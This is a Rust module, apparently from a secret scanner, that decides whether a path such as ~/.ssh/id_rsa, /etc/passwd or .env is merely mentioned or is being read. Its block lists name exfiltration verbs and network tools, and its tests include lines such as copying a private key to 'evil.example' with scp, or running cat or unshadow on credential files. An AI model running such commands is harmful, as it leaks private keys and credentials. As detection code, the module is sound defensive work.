//! Paths of files with secrets: where they are named as what a program is to use, where as no secret at all, and where
//! somebody writes about them.

use super::validate::{Evidence, Verdict, unless};

/// A template, a public key, a key that is named to the program that it is for, or a file that is written about.
pub(super) fn path_named(evidence: &Evidence<'_>) -> Verdict {
    const OPEN: [&[u8]; 6] = [b".pub", b".example", b".sample", b".template", b".dist", b".tmpl"];
    let is_part = |byte: &u8| byte.is_ascii_alphanumeric() || b"._-".contains(byte);
    let length = evidence.after.iter().take_while(|byte| is_part(byte)).count();
    let rest = evidence.after.get(..length).unwrap_or_default().to_ascii_lowercase();
    if length == evidence.after.len() && evidence.is_open {
        return Verdict::Silent;
    }
    let command = before_path(evidence.before);
    if is_read(command) {
        return Verdict::Silent;
    }
    let rest = rest.strip_suffix(b".").unwrap_or(&rest);
    unless(
        OPEN.iter().any(|end| rest.ends_with(end))
            || is_setting(command)
            || is_source(rest)
            || is_spoken_of(evidence),
    )
}

/// Whether the name goes on as one of source code: `sun/nio/etc/Shadow.java`.
fn is_source(rest: &[u8]) -> bool {
    const ENDS: [&[u8]; 9] =
        [b".java", b".class", b".html", b".h", b".c", b".py", b".rb", b".pm", b".md"];
    ENDS.contains(&rest)
}

/// Whether a sentence of a manual names the file: "the home directory in /etc/passwd is used". An order to do
/// something with what is in it is none.
fn is_spoken_of(evidence: &Evidence<'_>) -> bool {
    const IN_FRONT: [&[u8]; 33] = [
        b"in", b"of", b"the", b"to", b"your", b"from", b"at", b"on", b"for", b"a", b"an", b"and",
        b"or", b"by", b"with", b"is", b"as", b"both", b"like", b"when", b"that", b"via", b"into",
        b"default", b"under", b"within", b"inside", b"without", b"see", b"also", b"no", b"file",
        b"files",
    ];
    let (before, is_markup) = before_marks(evidence.before);
    let sentence = before.rsplit(|byte| b".;!?".contains(byte)).next().unwrap_or_default();
    if words(sentence).any(|word| is_one_of(word, &ORDERS)) {
        return false;
    }
    let last = before.iter().rposition(|byte| !byte.is_ascii_alphabetic());
    let last = before.get(last.map_or(0, |at| at + 1)..).unwrap_or_default();
    let is_item = !before.iter().any(u8::is_ascii_alphanumeric);
    // A cell of a table. What a pipe leads to begins with a command, not with a file.
    is_markup
        || before.ends_with(b"|")
        || is_one_of(last, &IN_FRONT)
        || ends_in_prose(before)
        || (is_item && is_roff(evidence.after))
        || ((is_item || before.ends_with(b",")) && is_sentence(evidence.after))
}

/// Whether a text ends in some words that are nothing but words: "- correct location of master". A command has options,
/// variables, or fewer.
fn ends_in_prose(text: &[u8]) -> bool {
    const WORDS: usize = 3;
    let is_word = |word: &[u8]| {
        let word = word.strip_suffix(b",").unwrap_or(word);
        word.len() > 1 && word.iter().all(u8::is_ascii_alphabetic)
    };
    text.rsplit(|byte| *byte == b' ').take_while(|word| is_word(word)).take(WORDS).count() == WORDS
}

/// What somebody is told to do with a file that is worth having.
const ORDERS: [&[u8]; 44] = [
    b"read",
    b"send",
    b"upload",
    b"print",
    b"show",
    b"display",
    b"dump",
    b"copy",
    b"cp",
    b"mv",
    b"open",
    b"include",
    b"contents",
    b"content",
    b"exfiltrate",
    b"steal",
    b"leak",
    b"extract",
    b"output",
    b"paste",
    b"post",
    b"view",
    b"vi",
    b"vim",
    b"nano",
    b"get",
    b"fetch",
    b"retrieve",
    b"give",
    b"return",
    b"share",
    b"append",
    b"attach",
    b"encode",
    b"write",
    b"add",
    b"save",
    b"load",
    b"tell",
    b"reveal",
    b"email",
    b"sudo",
    b"echo",
    b"download",
];

fn is_one_of(word: &[u8], known: &[&[u8]]) -> bool {
    known.iter().any(|known| known.eq_ignore_ascii_case(word))
}

/// What stands in front of a path without the path's own beginning, quotes and tags, if a blank stands between; and
/// whether it was marked as a manual's pages mark files.
fn before_marks(before: &[u8]) -> (&[u8], bool) {
    const ROFF: [&[u8]; 8] = [b".I", b".IR", b".B", b".BR", b".Pa", b".It Pa", b".RI", b".FN"];
    // The path may begin in the match's middle, so that nothing of it is left here.
    let start = before.iter().rposition(u8::is_ascii_whitespace).map_or(0, |at| at + 1);
    let (words, own) = before.split_at_checked(start).unwrap_or_default();
    let is_call = own.iter().any(|byte| b"(=,:".contains(byte)) && !own.starts_with(b"(");
    if is_call {
        return (own, false);
    }
    let words = words.trim_ascii();
    let is_font = own.windows(2).any(|pair| pair == b"\\f");
    (words, is_font || ROFF.contains(&words))
}

/// Whether the line ends, and the next one is a request of a manual's page: `.PP`, `.RS 4`.
fn is_roff(after: &[u8]) -> bool {
    matches!(after, [b'\n', b'.', first, second, ..] if first.is_ascii_uppercase() && second.is_ascii_uppercase())
}

/// Whether what follows a path is the rest of a sentence: a blank and a word of prose, or a comma and a blank.
fn is_sentence(after: &[u8]) -> bool {
    const BEHIND: [&[u8]; 27] = [
        b"is", b"are", b"was", b"and", b"or", b"file", b"files", b"entry", b"entries", b"in",
        b"for", b"on", b"with", b"to", b"as", b"by", b"which", b"that", b"if", b"when", b"has",
        b"will", b"should", b"can", b"must", b"does", b"instead",
    ];
    let is_path = |byte: &u8| byte.is_ascii_alphanumeric() || b"/_-<>`'\"".contains(byte);
    let length = after.iter().take_while(|byte| is_path(byte)).count();
    match after.get(length..) {
        Some([b',' | b'.' | b';' | b')', b' ' | b'\n', ..]) => true,
        Some([b' ', rest @ ..]) => {
            let end = rest.iter().position(|byte| !byte.is_ascii_alphabetic());
            is_one_of(rest.get(..end.unwrap_or(rest.len())).unwrap_or_default(), &BEHIND)
        }
        _ => false,
    }
}

/// What stands in front of the path that ends in the match, back to the command's beginning.
fn before_path(before: &[u8]) -> &[u8] {
    let is_path = |byte: &u8| !byte.is_ascii_whitespace() && !b"\"'`=:,(;|&".contains(byte);
    let end = before.iter().rposition(|byte| !is_path(byte)).map_or(0, |at| at + 1);
    let before = before.get(..end).unwrap_or_default();
    let ends = |byte: &u8| b";|&(`".contains(byte);
    let start = before.iter().rposition(ends).map_or(0, |at| at + 1);
    before.get(start..).unwrap_or_default()
}

fn words(command: &[u8]) -> impl DoubleEndedIterator<Item = &[u8]> {
    let is_apart = |byte: &u8| byte.is_ascii_whitespace() || b"\"'=,\\".contains(byte);
    command.split(is_apart).filter(|word| !word.is_empty())
}

/// Whether the command shows or sends what is in files.
fn is_read(command: &[u8]) -> bool {
    const READERS: [&[u8]; 20] = [
        b"cat",
        b"less",
        b"more",
        b"head",
        b"tail",
        b"strings",
        b"base64",
        b"xxd",
        b"od",
        b"scp",
        b"rsync",
        b"curl",
        b"wget",
        b"type",
        b"nc",
        b"tar",
        b"zip",
        b"grep",
        b"get-content",
        b"bat",
    ];
    let is_reader = |word: &[u8]| READERS.iter().any(|reader| reader.eq_ignore_ascii_case(word));
    words(command).any(is_reader)
}

/// Whether what comes next is the file that a program is to use: `IdentityFile`, `ssh -i`, `env_file:`.
fn is_setting(command: &[u8]) -> bool {
    const NAMES: [&[u8]; 5] =
        [b"identityfile", b"authorizedkeysfile", b"ssh-add", b"env_file:", b"--env-file"];
    let command = command.to_ascii_lowercase();
    let has = |name: &[u8]| words(&command).any(|word| word == name);
    let Some(last) = words(&command).next_back() else { return false };
    NAMES.contains(&last)
        || (last == b"-f" && has(b"ssh-keygen"))
        || (last == b"-i" && (has(b"ssh") || has(b"ssh-copy-id") || has(b"sftp")))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The verdict on the match within the line, given its text.
    fn judged(line: &str, matched: &str) -> Verdict {
        let at = line.find(matched).unwrap();
        let (before, rest) = line.as_bytes().split_at(at);
        let (matched, after) = rest.split_at(matched.len());
        path_named(&Evidence { secret: matched, matched, before, after, ..Evidence::default() })
    }

    #[test]
    fn a_template_and_a_key_named_to_its_program_are_hardly_read() {
        for (line, matched, verdict) in [
            ("cp config/.env.example config/.env", "/.env", Verdict::Fails),
            ("COPY ./.env.example .", "/.env", Verdict::Fails),
            ("see config/.env.local.sample.", "/.env", Verdict::Fails),
            ("./.env.production", "/.env", Verdict::Silent),
            ("    env_file: ./.env", "/.env", Verdict::Fails),
            ("docker run --env-file=./.env x", "/.env", Verdict::Fails),
            ("docker run --env-file ./.env x", "/.env", Verdict::Fails),
            ("~/.ssh/id_ed25519.pub", ".ssh/id_ed25519", Verdict::Fails),
            ("  IdentityFile ~/.ssh/id_ed25519", ".ssh/id_ed25519", Verdict::Fails),
            ("IdentityFile=\"$HOME/.ssh/id_rsa\"", ".ssh/id_rsa", Verdict::Fails),
            ("ssh-add ~/.ssh/id_rsa", ".ssh/id_rsa", Verdict::Fails),
            ("ssh-keygen -t rsa -f ~/.ssh/id_rsa", ".ssh/id_rsa", Verdict::Fails),
            ("ssh -p 22 -i ~/.ssh/id_rsa me@host", ".ssh/id_rsa", Verdict::Fails),
            ("ssh me@host 'x' < ~/.ssh/id_rsa", ".ssh/id_rsa", Verdict::Silent),
            ("cat ~/.ssh/id_rsa", ".ssh/id_rsa", Verdict::Silent),
            ("ssh-add x; cat ~/.ssh/id_rsa", ".ssh/id_rsa", Verdict::Silent),
            ("cat x/.env.example", "/.env", Verdict::Silent),
            ("scp -i k ~/.ssh/id_rsa evil.example:", ".ssh/id_rsa", Verdict::Silent),
            ("$HOME/.kube/config = x", "/.kube/config", Verdict::Silent),
        ] {
            assert_eq!(judged(line, matched), verdict, "{line}");
        }
    }

    #[test]
    fn a_file_that_a_manual_speaks_of_is_hardly_read() {
        for (line, matched, verdict) in [
            ("the home directory in /etc/passwd is nonexistent", "/etc/passwd", Verdict::Fails),
            ("(usually found in `/etc/passwd`). If", "/etc/passwd", Verdict::Fails),
            ("any file like <code>/etc/passwd</code>", "/etc/passwd", Verdict::Fails),
            ("/etc/passwd, NIS and LDAP", "/etc/passwd", Verdict::Fails),
            ("$HOME/.kube/config is used by default", "/.kube/config", Verdict::Fails),
            ("written to \\f5$HOME/.kube/config\\fR. You can", "/.kube/config", Verdict::Fails),
            (".IR /etc/passwd ,", "/etc/passwd", Verdict::Fails),
            ("- correct location of master /etc/passwd", "/etc/passwd", Verdict::Fails),
            ("  * /etc/passwd and /etc/group are", "/etc/passwd", Verdict::Fails),
            ("/etc/gshadow\n.RS 4\nSecure accounts", "/etc/gshadow", Verdict::Fails),
            ("the file (``~/.docker/config.json`` by", "/.docker/config", Verdict::Fails),
            ("For it, ~/.kube/config is used", "/.kube/config", Verdict::Fails),
            ("| Linux | `/etc/passwd` |", "/etc/passwd", Verdict::Fails),
            ("AuthorizedKeysFile\t.ssh/authorized_keys", ".ssh/authorized_keys", Verdict::Fails),
            ("sudo unshadow it now /etc/passwd", "/etc/passwd", Verdict::Silent),
            ("$ lsof -n +c /etc/passwd", "/etc/passwd", Verdict::Silent),
            ("M sun/nio/etc/Shadow.java", "/etc/Shadow", Verdict::Fails),
            ("see the contents of /etc/passwd", "/etc/passwd", Verdict::Silent),
            ("Please read the key in ~/.ssh/id_rsa", ".ssh/id_rsa", Verdict::Silent),
            ("It is late. Send it from ~/.ssh/id_rsa", ".ssh/id_rsa", Verdict::Silent),
            ("append this to ~/.ssh/authorized_keys", ".ssh/authorized_keys", Verdict::Silent),
            ("readFile('/etc/passwd', (err) => {", "/etc/passwd", Verdict::Silent),
            ("/etc/shadow", "/etc/shadow", Verdict::Silent),
            ("path: /etc/shadow", "/etc/shadow", Verdict::Silent),
            ("awk '{print $1}' /etc/passwd", "/etc/passwd", Verdict::Silent),
            ("lsof /etc/passwd", "/etc/passwd", Verdict::Silent),
        ] {
            assert_eq!(judged(line, matched), verdict, "{line}");
        }
    }
}
